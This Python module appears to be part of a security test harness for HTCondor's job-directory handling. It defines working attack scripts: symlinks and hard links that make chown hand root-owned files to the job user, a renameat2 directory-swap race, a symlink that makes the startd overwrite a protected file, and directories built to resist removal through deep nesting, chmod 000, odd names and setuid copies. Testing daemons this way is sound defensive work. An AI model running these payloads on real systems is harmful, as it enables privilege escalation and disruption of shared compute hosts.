"""A job's directory as a trap: for whoever hands it over, takes it back, writes into it or removes it."""

from __future__ import annotations

from collections.abc import Callable

from .answer import Answer, answer
from .attack import Attack
from .ground import EVIL, Ground

VICTIMS = "/etc/victims"
_PRECIOUS = "/srv/condor/p220/run/precious"

PREPARATION = f"""
install -d {VICTIMS}/tree
echo precious >{VICTIMS}/link
echo precious >{VICTIMS}/hard
chmod 666 {VICTIMS}/hard
for number in $(seq 400); do : >{VICTIMS}/tree/$number; done
echo precious >{_PRECIOUS}
chown condor: {_PRECIOUS}
"""

# What swaps a directory and a link to another one, as fast as it can, also after the job's end.
_RACE = f"""#!/usr/bin/python3 -I
import ctypes, os, signal, time
exchange = ctypes.CDLL(None).renameat2
os.mkdir("d")
for number in range(1, 401):
    open(f"d/{{number}}", "w").close()
os.symlink("{VICTIMS}/tree", "link")
for name in (".", "d"):
    os.chmod(name, 0o777)
if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    end = time.monotonic() + 8
    while time.monotonic() < end:
        exchange(-100, b"d", -100, b"link", 2)
    os._exit(0)
print("done")
"""

_SHELL = "#!/bin/sh\n"


def _still_roots(*names: str) -> Callable[[Ground, str], Answer]:
    """Whether files of root's have another owner now."""

    def judge(ground: Ground, cluster: str) -> Answer:
        words = ["find", *(f"{VICTIMS}/{name}" for name in names), "!", "-uid", "0"]
        changed = ground.world.run(words).stdout.split()
        return answer(bool(changed), f"{len(changed)} files of root's changed hands")

    return judge


def _undeletable(name: str, script: str) -> Attack:
    """A directory that is to stay behind on the host, by what it holds."""

    def judge(ground: Ground, cluster: str) -> Answer:
        place = ground.world.read(f"{EVIL}/place.{name}").strip()
        return ground.stays(lambda: f"{place} is still there" if ground.exists(place) else "")

    return Attack(
        name,
        "ownership: what a job leaves in its directory",
        f"{_SHELL}pwd >{EVIL}/place.{name}\nchmod 644 {EVIL}/place.{name}\n{script}\n",
        "uid",
        # HTCondor itself would wait for somebody to write into a pipe by name.
        lines=('transfer_output_files = ""',),
        environment={"HAND_BACK": "none"},
        judge=judge,
    )


def _overwritten(ground: Ground, cluster: str) -> Answer:
    return answer(ground.world.read(_PRECIOUS) != "precious\n", f"the startd overwrote {_PRECIOUS}")


_DEEP = """exec /usr/bin/python3 -I -c '
import os
for _ in range(1500):
    os.mkdir("d" * 100)
    os.chdir("d" * 100)
'"""
_CLOSED = "mkdir -p closed/inner; touch closed/inner/file; chmod 000 closed/inner closed; chmod 000 ."
_ODD = """touch -- '-rf' ' ' "$(printf 'a\\nb')" "$(printf '\\377\\376')" '*' ; mkfifo fifo; mkdir '...'; ln -s . self"""
_MANY = "mkdir many; cd many; seq 5000 | xargs touch"
_SETUID = """
cp /bin/busybox setuid
chmod 6755 setuid
mkdir sticky
chmod 7777 sticky
cp /bin/busybox sticky/setuid
chmod 4755 sticky/setuid"""

ATTACKS = [
    Attack(
        "symlink-under-chown",
        "symlink and hard link under chown",
        f"{_SHELL}ln -s {VICTIMS}/link l\n",
        "uid",
        judge=_still_roots("link"),
    ),
    Attack(
        "hardlink-under-chown",
        "symlink and hard link under chown",
        f"{_SHELL}ln {VICTIMS}/hard h\n",
        "uid",
        environment={"HAND_BACK": "careful"},
        judge=_still_roots("hard"),
    ),
    Attack(
        "directory-swap-race",
        "directory-swap race",
        _RACE,
        "uid",
        environment={"HAND_BACK": "careful"},
        judge=_still_roots("tree"),
    ),
    Attack(
        "startds-own-file-link",
        "symlink under the startd's hands",
        f"{_SHELL}ln -s {_PRECIOUS} .update.ad.tmp\nsleep 8\n",
        judge=_overwritten,
        suites=("trixie",),  # later versions write beside the sandbox
    ),
    _undeletable("deep-directories", _DEEP),
    _undeletable("closed-directories", _CLOSED),
    _undeletable("odd-names", _ODD),
    _undeletable("many-files", _MANY),
    _undeletable("setuid-files", _SETUID),
]
